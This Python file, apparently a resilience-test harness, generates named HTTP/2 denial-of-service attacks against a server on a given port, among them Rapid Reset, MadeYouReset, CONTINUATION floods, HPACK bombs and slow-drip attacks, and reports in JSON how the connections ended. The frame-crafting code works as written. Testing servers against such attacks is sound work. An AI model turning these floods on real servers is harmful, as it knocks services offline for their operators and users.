"""Attacks on HTTP/2 servers that have a name, as a client would make them.

    python attack.py NAME PORT [--seconds 4] [--connections 5]

A connection that is ended is followed by the next, until so many were used or the time is over;
some attacks use them all at once. `/` is answered, `/hold` is not, `/big` is large and has no end.
Prints one JSON line:
{"attack", "connections", "frames", "bytes", "seconds", "ends": {how: count}, "longest_s"}.
`longest_s` is how long the longest connection lived. `open`: the time was over first.
"""

import asyncio
import sys
import time
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
import http2_wire as wire
import peer
from http2_wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW, PADDED, PREFACE,
    block, data, frame, headers, ping, priority, request, reset, settings, window)  # fmt: skip

DEAF = "reads nothing"
AT_ONCE = "all connections at once"
SAYS_NOTHING = "not even a preface"
ATTACKS = {}
MOST = 2**31 - 1
GET, HOLD, BIG = (block(request(path=path)) for path in ("/", "/hold", "/big"))
POST = block(request("POST", "/hold"))
MALFORMED = block(request(path="/", fields=[("te", "gzip")]))


def attack(*traits, settings=()):
    """An attack makes (bytes, number of frames in them) for ever; a number is a pause, in s."""

    def add(make):
        ATTACKS[make.__name__.replace("_", "-")] = (make, traits, settings)
        return make

    return add


def for_streams(make, at_once=50):
    """`make(stream)` for all streams, in batches."""
    for first in range(1, 2**31 - 2 * at_once, 2 * at_once):
        frames = [make(first + 2 * number) for number in range(at_once)]
        yield b"".join(frames), sum(map(count, frames))


def count(frames):
    """How many there are."""
    at = number = 0
    while at < len(frames):
        at += 9 + int.from_bytes(frames[at : at + 3], "big")
        number += 1
    return number


def again(frames, times=100):
    """The same for ever."""
    many, number = frames * times, count(frames) * times
    while True:
        yield many, number


@attack()
def rapid_reset():
    """CVE-2023-44487: a request, taken back at once."""
    return for_streams(lambda stream: headers(stream, HOLD) + reset(stream))


@attack()
def rapid_reset_patient():
    """The same below the limit of resets per second."""
    for batch in for_streams(lambda stream: headers(stream, HOLD) + reset(stream), at_once=15):
        yield batch
        yield 0.1


@attack()
def made_you_reset_window():
    """CVE-2025-8671: a request, then a window that overflows: the server resets it."""
    return for_streams(lambda stream: headers(stream, HOLD) + window(stream, MOST))


@attack()
def made_you_reset_zero():
    """CVE-2025-8671, with an increment of zero."""
    return for_streams(lambda stream: headers(stream, POST, 0) + window(stream, 0))


@attack()
def made_you_reset_length():
    """CVE-2025-8671, with more data than Content-Length says."""
    post = block(request("POST", "/hold", [("content-length", "1")]))
    return for_streams(lambda stream: headers(stream, post, 0) + data(stream, b"more"))


@attack()
def made_you_reset_malformed():
    """CVE-2025-8671, with requests that are malformed."""
    return for_streams(lambda stream: headers(stream, MALFORMED))


@attack(DEAF)
def reset_flood():
    """CVE-2019-9514: requests that must be reset, by a client that does not read the resets."""
    return for_streams(lambda stream: headers(stream, MALFORMED))


@attack()
def continuation_flood():
    """CVE-2024-27316: a head that never ends, in frames of 16 KiB."""
    fields = b"\x00\x01x\x7f\x80\x01" + b"v" * 255
    yield frame(HEADERS, END_STREAM, 1, GET), 1
    yield from again(frame(CONTINUATION, 0, 1, fields * 62), 10)


@attack()
def continuation_flood_small():
    """CVE-2024-27316, in frames of one field."""
    yield frame(HEADERS, END_STREAM, 1, GET), 1
    yield from again(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"))


@attack()
def continuation_flood_empty():
    """CVE-2024-27316, in frames of nothing."""
    yield frame(HEADERS, END_STREAM, 1, GET), 1
    yield from again(frame(CONTINUATION, 0, 1))


@attack()
def ping_flood():
    """CVE-2019-9512."""
    return again(ping())


@attack(DEAF)
def ping_flood_deaf():
    """CVE-2019-9512, by a client that does not read the answers."""
    return again(ping())


@attack(DEAF)
def settings_flood():
    """CVE-2019-9515, by a client that does not read the answers."""
    return again(settings((INITIAL_WINDOW, 65535)))


@attack()
def empty_fields():
    """CVE-2019-9516: fields without name and value."""
    return for_streams(lambda stream: headers(stream, GET + b"\x00\x00\x00" * 5000))


@attack()
def empty_values():
    """CVE-2019-9516: thousands of fields without value, Huffman-coded."""
    return for_streams(lambda stream: headers(stream, GET + b"\x40\x01x\x80" * 4000), at_once=10)


@attack(DEAF, AT_ONCE, settings=((INITIAL_WINDOW, MOST),))
def internal_data_buffering():
    """CVE-2019-9517: windows wide open, but nothing is read from the socket."""
    yield window(0, MOST - 65535), 1
    yield b"".join(headers(2 * number + 1, BIG) for number in range(100)), 100
    while True:
        yield ping(), 1
        yield 0.5


@attack()
def empty_frames():
    """CVE-2019-9518: DATA without data and without an end."""
    yield headers(1, POST, 0), 1
    yield from again(data(1))


@attack()
def empty_frames_padded():
    """CVE-2019-9518, with padding, so that they are not empty and carry nothing."""
    yield headers(1, POST, 0), 1
    yield from again(frame(DATA, PADDED, 1, b"\x00"))


@attack()
def resource_loop():
    """CVE-2019-9513: priorities that turn the tree of streams upside down, again and again."""
    yield b"".join(headers(2 * number + 1, HOLD) for number in range(50)), 50
    turn = [priority(2 * number + 1, 2 * ((number + step) % 50) + 1 | 1 << 31, 200)
            for step in (1, 2, 3) for number in range(50)]  # fmt: skip
    yield from again(b"".join(turn), 2)


@attack(settings=((INITIAL_WINDOW, 0),))
def data_dribble():
    """CVE-2019-9511: a large response, in frames of one byte."""
    yield b"".join(headers(2 * number + 1, BIG) for number in range(50)), 50
    yield from again(b"".join(window(2 * number + 1, 1) for number in range(50)), 2)


@attack(AT_ONCE, settings=((INITIAL_WINDOW, 0),))
def data_dribble_patient():
    """CVE-2019-9511, below the limit of updates per second."""
    yield b"".join(headers(2 * number + 1, BIG) for number in range(50)), 50
    for batch in again(b"".join(window(2 * number + 1, 1) for number in range(50)), 2):
        yield batch
        yield 0.1


@attack()
def hpack_bomb():
    """CVE-2016-6581: one large entry of the dynamic table, named 10,000 times in each request."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    yield headers(1, GET + entry), 1
    for stream in range(3, 2**31, 2):
        yield headers(stream, GET + b"\xbe" * 10000), 1


@attack(AT_ONCE, SAYS_NOTHING)
def slow_preface():
    """A preface that drips."""
    for byte in PREFACE:
        yield bytes([byte]), 0
        yield 0.3


@attack(AT_ONCE)
def slow_headers():
    """A head that drips, beside a stream that is open."""
    yield headers(1, HOLD), 1
    for byte in headers(3, GET + b"\x00\x01x\x7f\x80\x01" + b"v" * 255):
        yield bytes([byte]), 0
        yield 0.1


class Attacker:
    def __init__(self, name, port, until):
        self.make, self.traits, self.settings = ATTACKS[name]
        self.port, self.until = port, until
        self.frames = self.bytes = self.connections = 0
        self.longest, self.ends = 0, Counter()

    async def connection(self):
        began = time.monotonic()
        self.connections += 1
        narrow = DEAF in self.traits
        if SAYS_NOTHING in self.traits:
            connection = await wire.Connection.open(self.port, b"")
        else:
            connection = await wire.Connection.meet(self.port, *self.settings, narrow=narrow)
        jobs = [asyncio.ensure_future(self.send(connection))]
        if DEAF not in self.traits:
            jobs.append(asyncio.ensure_future(self.read(connection)))
        left = max(0, self.until - time.monotonic())
        done, waiting = await asyncio.wait(jobs, timeout=left, return_when=asyncio.FIRST_COMPLETED)
        # What was said last may still be on its way when a write fails.
        if done and jobs[0] in done and len(jobs) == 2:
            done, _ = await asyncio.wait(jobs[1:], timeout=1)
        self.ends[self.how(done)] += 1
        self.longest = max(self.longest, time.monotonic() - began)
        for job in jobs:
            job.cancel()
        await asyncio.gather(*jobs, return_exceptions=True)
        connection.close()

    def how(self, done):
        for job in done:
            return job.result()
        return "open"

    async def send(self, connection):
        try:
            for step in self.make():
                if not isinstance(step, tuple):
                    await asyncio.sleep(step)
                    continue
                frames, number = step
                await connection.send(frames)
                self.frames += number
                self.bytes += len(frames)
                await asyncio.sleep(0)
        except wire.Ended as end:
            return str(end)
        await asyncio.sleep(3600)

    async def read(self, connection):
        try:
            while True:
                seen = await connection.read()
                if seen.kind == GOAWAY:
                    return f"GOAWAY {wire.error_name(seen.payload[4:])}"
        except wire.Ended as end:
            return str(end)

    async def run(self, connections):
        if AT_ONCE in self.traits:
            await asyncio.gather(*(self.connection() for _ in range(connections)))
            return
        while self.connections < connections and time.monotonic() < self.until:
            await self.connection()


def main(options):
    peer.expect(options.name in ATTACKS, f"there are only {', '.join(ATTACKS)}")
    began = time.monotonic()
    attacker = Attacker(options.name, int(options.port), began + options.seconds)
    asyncio.run(attacker.run(options.connections))
    return {
        "attack": options.name,
        "connections": attacker.connections,
        "frames": attacker.frames,
        "bytes": attacker.bytes,
        "seconds": round(time.monotonic() - began, 2),
        "ends": dict(attacker.ends),
        "longest_s": round(attacker.longest, 2),
    }


if __name__ == "__main__":
    parser = peer.arguments(__doc__, "NAME", "PORT")
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--connections", type=int, default=5)
    peer.client(main, parser.parse_args())
